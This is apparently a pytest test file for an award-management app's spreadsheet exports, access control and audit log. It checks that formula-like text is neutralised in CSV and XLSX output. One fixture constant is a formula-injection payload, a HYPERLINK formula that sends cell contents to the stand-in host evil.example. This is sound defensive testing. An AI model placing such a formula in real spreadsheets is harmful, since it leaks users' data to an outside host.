"""Spreadsheet exports and the audit log through the secretariat's pages: formula-looking text
is neutralised in CSV and XLSX while numbers stay numbers, only the secretariat may export,
every download is logged, and the log filters by round, person and action."""

import csv
import io
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from award.database import utcnow
from award.extensions import db
from award.models import Answer, AuditEvent, Review, Role
from award.operations import audit
from award.operations import rankings as ranking_ops
from award.operations.exports import neutralise
from tests.conftest import PASSWORD, check_page, login
from tests.test_assignments import secretariat_client
from tests.test_rankings import harsh_round

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def ranked_round(make_round, make_user):
    round_, stage, nominations, people = harsh_round(make_round, make_user)
    nominations[0].title = FORMULA
    nominations[1].title = "Café für alle: Pflegekräfte"
    question = round_.questions[0]
    db.session.add(Answer(nomination=nominations[0], question=question, value="@SUM(A1:A9)"))
    review = db.session.scalar(sa.select(Review).order_by(Review.id).limit(1))
    review.total = 62.5
    review.overall_comment = "-2 points for the budget\ttab"
    ranking_ops.compute_rankings(stage, round_.ranking_method)
    db.session.commit()
    return round_, nominations, people


def download(client, round_, kind, fmt):
    # buffered: the test client runs each request in a context of its own (see conftest), so
    # the streamed CSV is read there, as a server reads it while the request is alive.
    response = client.post(
        f"/secretariat/rounds/{round_.id}/exports/{kind}", data={"format": fmt}, buffered=True
    )
    assert response.status_code == 200, response.status_code
    assert "attachment" in response.headers["Content-Disposition"]
    return response


def csv_rows(response) -> list[dict]:
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def xlsx_rows(response) -> list[dict]:
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    header, *rows = list(sheet.iter_rows())
    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("A plain title", "A plain title"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_formula_starts_are_neutralised_and_numbers_left_alone(value, expected):
    assert neutralise(value) == expected


def test_nominations_export_neutralises_formulas_in_csv_and_xlsx(client, make_user, ranked_round):
    round_, nominations, _ = ranked_round
    secretariat_client(client, make_user)

    rows = {
        r["Receipt number"]: r for r in csv_rows(download(client, round_, "nominations", "csv"))
    }
    assert len(rows) == len(nominations)
    first = rows[nominations[0].receipt_number]
    assert first["Title"] == "'" + FORMULA
    assert first["Short summary"] == "'@SUM(A1:A9)"
    assert rows[nominations[1].receipt_number]["Title"] == "Café für alle: Pflegekräfte"

    cells = {
        r["Receipt number"].value: r
        for r in xlsx_rows(download(client, round_, "nominations", "xlsx"))
    }
    title = cells[nominations[0].receipt_number]["Title"]
    assert title.value == "'" + FORMULA and title.data_type == "s"


def test_reviews_export_keeps_scores_numeric(client, make_user, ranked_round):
    round_, nominations, people = ranked_round
    secretariat_client(client, make_user)
    submitted = db.session.scalar(sa.select(sa.func.count()).select_from(Review))

    rows = csv_rows(download(client, round_, "reviews", "csv"))
    assert len(rows) == submitted
    scored = next(r for r in rows if r["Weighted total"])
    assert scored["Weighted total"] == "62.5"
    assert scored["Overall comment"] == "'-2 points for the budget\ttab"
    assert {r["Reviewer"] for r in rows} == {p.name for p in people}
    assert all(r["Innovation (score)"].isdigit() for r in rows)

    cells = xlsx_rows(download(client, round_, "reviews", "xlsx"))
    scored = next(r for r in cells if r["Weighted total"].value is not None)
    assert scored["Weighted total"].value == 62.5 and scored["Weighted total"].data_type == "n"
    assert all(isinstance(r["Impact (score)"].value, int) for r in cells)
    assert scored["Overall comment"].value.startswith("'-2")


def test_rankings_export_is_the_latest_snapshot_of_the_rounds_method(
    client, make_user, ranked_round
):
    round_, nominations, _ = ranked_round
    secretariat_client(client, make_user)
    rows = csv_rows(download(client, round_, "rankings", "csv"))
    assert {r["Method"] for r in rows} == {round_.ranking_method}
    assert len(rows) == len(nominations)
    assert {r["Rank"] for r in rows} >= {"1"}
    assert rows[0]["Title"] in {n.title for n in nominations} | {"'" + FORMULA}

    cells = xlsx_rows(download(client, round_, "rankings", "xlsx"))
    assert all(c["Score"].data_type == "n" for c in cells)
    assert any(c["Title"].value == "'" + FORMULA for c in cells)


def test_every_download_is_written_to_the_audit_log(client, make_user, ranked_round):
    round_, _, _ = ranked_round
    admin = secretariat_client(client, make_user)
    download(client, round_, "reviews", "xlsx")
    response = client.post(f"/secretariat/rounds/{round_.id}/archive")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert response.get_data()[:2] == b"PK"
    events = db.session.scalars(
        sa.select(AuditEvent)
        .where(AuditEvent.action.in_(["round.exported", "round.archived"]))
        .order_by(AuditEvent.id)
    ).all()
    assert [(e.action, e.actor_id, e.round_id) for e in events] == [
        ("round.exported", admin.id, round_.id),
        ("round.archived", admin.id, round_.id),
    ]
    assert events[0].data == {"kind": "reviews", "format": "xlsx"}


def test_an_unknown_export_or_format_is_not_found(client, make_user, ranked_round):
    round_, _, _ = ranked_round
    secretariat_client(client, make_user)
    url = f"/secretariat/rounds/{round_.id}/exports"
    assert client.post(f"{url}/passwords", data={"format": "csv"}).status_code == 404
    assert client.post(f"{url}/reviews", data={"format": "html"}).status_code == 404
    assert client.get(f"{url}/reviews").status_code == 405  # downloads are logged: POST only
    assert client.post(f"{url}/reviews", data={"format": "csv"}, csrf=False).status_code == 400


@pytest.mark.parametrize("role", [Role.REVIEWER, Role.NOMINATOR])
def test_reviewers_and_nominators_get_403(client, make_user, ranked_round, role):
    round_, _, _ = ranked_round
    login(client, make_user("someone@example.org", roles=(role,)).email)
    base = f"/secretariat/rounds/{round_.id}"
    assert client.get(f"{base}/exports").status_code == 403
    assert client.post(f"{base}/exports/reviews", data={"format": "csv"}).status_code == 403
    assert client.post(f"{base}/archive").status_code == 403
    assert client.get("/secretariat/audit").status_code == 403
    assert (
        db.session.scalar(sa.select(sa.func.count()).where(AuditEvent.action.like("round.%"))) == 0
    )


def test_audit_log_filters_by_round_person_and_action_newest_first(client, make_round, make_user):
    secretariat_client(client, make_user)
    one, two = make_round(name="Round One"), make_round(name="Round Two")
    ana = make_user("ana@example.org", name="Ana Reviewer")
    ben = make_user("ben@example.org", name="Ben Nominator")
    start = utcnow() - timedelta(hours=1)
    for i in range(60):  # more than one page
        event = audit.record("nomination.saved", actor=ana, round_id=one.id, n=i)
        event.at = start + timedelta(seconds=i)
    audit.record("nomination.withdrawn", actor=ben, round_id=one.id)
    audit.record("nomination.saved", actor=ben, round_id=two.id)
    audit.record("auth.login_failed", obj=ana, email=ana.email)
    db.session.commit()

    def shown(**query) -> str:
        response = client.get("/secretariat/audit", query_string=query)
        assert response.status_code == 200
        return response.get_data(as_text=True)

    page = shown(round=one.id, person="ana@example.org", action="nomination.saved")
    assert "60 event(s), newest first." in page
    assert page.index("n: 59") < page.index("n: 58")  # newest first
    assert "n: 9;" not in page and "n: 9<" not in page  # on page two
    page_two = shown(round=one.id, person="ana@example.org", action="nomination.saved", page=2)
    assert "n: 9" in page_two and "n: 59" not in page_two
    assert "Ben Nominator" not in page

    assert "2 event(s)" in shown(person="BEN@example.org")
    assert "1 event(s)" in shown(round=two.id)
    assert "1 event(s)" in shown(action="nomination.withdrawn")
    # The account acted on counts as well as the actor: a failed sign-in has no actor.
    assert "auth.login_failed" in shown(person="ana@example.org", action="auth.login_failed")
    # Filters that do not exist are dropped, not an error page.
    assert "nomination.withdrawn" in shown(round="999", action="no.such")


def test_audit_log_queries_do_not_grow_with_the_people_in_it(client, make_round, make_user):
    from sqlalchemy import event

    secretariat_client(client, make_user)
    counts = []
    for batch in range(2):
        for i in range(5 + 20 * batch):
            person = make_user(f"p{batch}-{i}@example.org")
            audit.record("nomination.saved", actor=person)
        db.session.commit()
        statements = []

        def count(*args, statements=statements):
            statements.append(args[2])

        event.listen(db.engine, "before_cursor_execute", count)
        try:
            assert client.get("/secretariat/audit").status_code == 200
        finally:
            event.remove(db.engine, "before_cursor_execute", count)
        counts.append(len(statements))
    assert counts[0] == counts[1]


def sign_in(page, base, email):
    page.goto(f"{base}/auth/login")
    page.get_by_label("E-mail address").fill(email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()


@pytest.mark.browser
def test_exports_page_in_a_browser(live_server, page, make_round, make_user):
    base = live_server.url
    round_ = make_round(name="Health Worker Migration Award 2026")
    admin = make_user("sec@example.org", roles=(Role.SECRETARIAT,), name="Helena Marchetti")
    sign_in(page, base, admin.email)
    page.goto(f"{base}/secretariat/")
    page.get_by_role("link", name="Exports and archive").click()
    page.get_by_role("heading", name="Exports: Health Worker Migration Award 2026").wait_for()
    check_page(page, "exports")
    with page.expect_download() as info:
        page.get_by_role("button", name="CSV Nominations").click()
    assert info.value.suggested_filename == f"{round_.slug}-nominations.csv"


@pytest.mark.browser
def test_audit_page_in_a_browser(live_server, page, make_round, make_user):
    base = live_server.url
    round_ = make_round(name="Health Worker Migration Award 2026")
    admin = make_user("sec@example.org", roles=(Role.SECRETARIAT,), name="Helena Marchetti")
    audit.record("round.exported", actor=admin, obj=round_, round_id=round_.id, kind="reviews")
    db.session.commit()
    sign_in(page, base, admin.email)
    page.goto(f"{base}/secretariat/audit")
    page.get_by_label("Round").select_option(label=round_.name)
    page.get_by_label("Person (e-mail address)").fill(admin.email)
    page.get_by_label("Action").select_option("round.exported")
    page.get_by_role("button", name="Filter").click()
    page.get_by_text("1 event(s), newest first.").wait_for()
    check_page(page, "audit")
